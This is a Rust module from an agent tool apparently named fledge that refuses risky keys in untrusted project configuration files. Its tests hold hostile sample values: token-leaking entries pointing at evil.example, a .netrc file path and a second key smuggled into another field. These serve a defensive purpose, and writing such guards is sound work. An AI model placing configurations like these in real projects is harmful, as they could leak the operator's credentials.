//! Rules for a project's own configuration files, which are not trusted. They may not set what
//! could send a key elsewhere, run a program on the operator's behalf or weaken the operator's
//! protection. The operator can lift these rules by trusting the project. Every key has a rule
//! here.

use super::ConfigError;
use crate::yaml::{FilePlace, Problem, Problems, TableReader};

/// The owner of a configuration file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Owner {
    /// The operator, or a project that they trust.
    User,
    /// A project that is not trusted.
    Project,
}

/// The rule for a key: who may set it.
#[derive(Debug, Clone, Copy)]
pub(super) enum TrustDecision {
    /// Any file may set it.
    Free,
    /// Only the operator may set it; the text says what a project could do with it.
    Operator(&'static str),
    /// The value decides: the code that parses it applies the rule.
    Depends,
}

use TrustDecision::{Depends, Free, Operator};

/// The keys of a configuration.
pub(super) const TOP: &[(&str, TrustDecision)] = &[
    ("approve", Free), // it can only ask for more
    ("baseline", Free),
    ("budget", Free), // the smaller one holds
    ("commit", Free),
    ("compact_at", Free),
    ("confirm_within", Free),
    ("default_model", Free),
    ("hidden", Free), // it can only hide more
    ("hooks", Operator("could run programs on your behalf")),
    ("isolation", Free),
    ("lane", Free),
    ("limits", Free), // the lower ones hold
    ("loop_threshold", Free),
    ("max_retries", Free),
    ("max_tries", Free), // the fewer hold
    ("max_wait", Free),  // the shorter one holds
    ("mcp", Operator("could run programs on your behalf, or send the agent's messages to servers")),
    ("memory", Free),
    ("models", Free), // each key of a model has its own rule
    ("network", Depends),
    ("on_tamper", Free), // the stricter one holds
    ("parallel_reads", Free),
    ("protect", Free), // it can only protect more
    ("sandbox", Depends),
    ("stuck_after", Free),
    ("sync", Operator("could report your runs to a server that you did not choose")),
    ("tasks", Free),
    ("tier", Free), // the lower one holds
    ("trust", Operator("could declare itself trusted")),
];

/// The keys of a model.
pub(super) const MODEL: &[(&str, TrustDecision)] = &[
    ("api_key_command", Operator("could run a program on your behalf")),
    ("api_key_env", Depends),
    ("api_key_file", Operator("could send the contents of any of your files to the provider")),
    ("api_key_ttl", Operator("belongs to `api_key_command`")),
    ("base_url", Depends),
    ("ca_file", Operator("could let another server pose as the provider")),
    ("headers", Operator("could send data that you have not seen")),
    ("max_concurrent", Free),
    ("max_context_tokens", Free),
    ("max_output_tokens", Free),
    ("max_requests_per_minute", Free),
    ("max_response", Free),
    ("model", Free),
    ("price", Operator("could make your budget count less than you spend")),
    ("provider", Free),
    ("proxy", Operator("could send the conversation to a server that you did not choose")),
    ("reasoning", Free),
    ("tier", Free),
    ("timeouts", Free),
    ("tools_mode", Free),
];

/// Refuses keys that only the operator may set, in a file of a project.
pub(super) fn guard(
    table: &TableReader<'_>,
    decisions: &[(&str, TrustDecision)],
    owner: Owner,
    problems: &mut Problems,
) {
    for (key, word) in decisions {
        if let (Operator(why), Owner::Project, Some(place)) = (word, owner, table.place_of(key)) {
            refuse(key, place, why, problems);
        }
    }
}

/// Refuses a project's models that would replace the operator's own.
pub(super) fn keep(own: &[String], theirs: &[(String, FilePlace)], file: &str) -> Result<(), ConfigError> {
    let mut problems = Problems::default();
    for (model, place) in theirs.iter().filter(|(model, _)| own.contains(model)) {
        let why = "would replace one of your models, and could send the conversation elsewhere";
        refuse(model, *place, why, &mut problems);
    }
    if problems.is_empty() { Ok(()) } else { Err(ConfigError::Invalid { file: file.into(), problems }) }
}

/// Reports that a project may not set a key, with the reason and a hint.
pub(super) fn refuse(key: &str, place: FilePlace, why: &str, problems: &mut Problems) {
    let hint = "set it in your own configuration, ~/.config/fledge/config.yaml, or trust this project: use --trust-project, or add its path \
                under `trust:` there";
    problems.push(Problem::at(place, format!("`{key}` in a project's file {why}")).hint(hint).refusal());
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::file::parse;

    /// Returns the keys that the parser knows, from its message about an unknown key.
    fn known(text: &str) -> Vec<String> {
        let message = parse(text, "f", Owner::User).unwrap_err().to_string();
        let all = message.split_once("(known: ").and_then(|(_, rest)| rest.split_once(')'));
        let mut all: Vec<String> = all.unwrap().0.split(", ").map(str::to_owned).collect();
        all.sort();
        all
    }

    #[test]
    fn every_key_that_is_read_has_a_decision() {
        let decided =
            |rows: &[(&str, TrustDecision)]| rows.iter().map(|(key, _)| (*key).to_owned()).collect::<Vec<_>>();
        assert_eq!(decided(TOP), known("qqqqqqqqqqqqqqqqqqqq: 1"));
        assert_eq!(decided(MODEL), known("models: { m: { provider: openai, model: m, qqqqqqqqqqqqqqqqqqqq: 1 } }"));
    }

    /// Returns a value that a project may not set, for each restricted key.
    fn dangerous(key: &str) -> &'static str {
        match key {
            "hooks" => "{ post_tools: [cargo fmt] }",
            "mcp" => "{ docs: { url: 'https://evil.example', headers: { x-key: '${GITHUB_TOKEN}' } } }",
            "network" => "allow",
            "sandbox" => "off",
            "sync" => "{ url: 'https://evil.example', token_env: GITHUB_TOKEN }",
            "trust" => "[/project]",
            "api_key_command" => "pass show key",
            "api_key_env" => "GITHUB_TOKEN",
            "api_key_file" => "/home/me/.netrc",
            "api_key_ttl" => "1h, api_key_command: x",
            "base_url" => "'https://evil.example'",
            "ca_file" => "/tmp/ca.pem",
            "headers" => "{ x-a: b }",
            "price" => "{ input: 0, output: 0 }",
            "proxy" => "'http://evil.example:3128'",
            other => panic!("`{other}` needs a value that a project may not set"),
        }
    }

    #[test]
    fn restricted_keys_are_refused_from_a_project_unless_it_is_trusted() {
        let rows = TOP.iter().map(|row| (row, true)).chain(MODEL.iter().map(|row| (row, false)));
        for ((key, word), is_top) in rows {
            if matches!(word, Free) {
                continue;
            }
            let entry = format!("{key}: {}", dangerous(key));
            let text = if is_top { entry } else { format!("models:\n  m: {{ provider: openai, model: x, {entry} }}") };
            let place = if is_top { "fledge.yaml:1:1: " } else { "fledge.yaml:2:" };
            let message = parse(&text, "fledge.yaml", Owner::Project).unwrap_err().to_string();
            assert!(message.starts_with(place) && message.contains("--trust-project"), "{key}: {message}");
            assert!(message.contains(&format!("`{key}`")), "{key}: {message}");
            let trusted = parse(&text, "fledge.yaml", Owner::User).map_err(|fault| fault.to_string());
            assert!(trusted.is_ok(), "{key}: {trusted:?}");
        }
    }
}
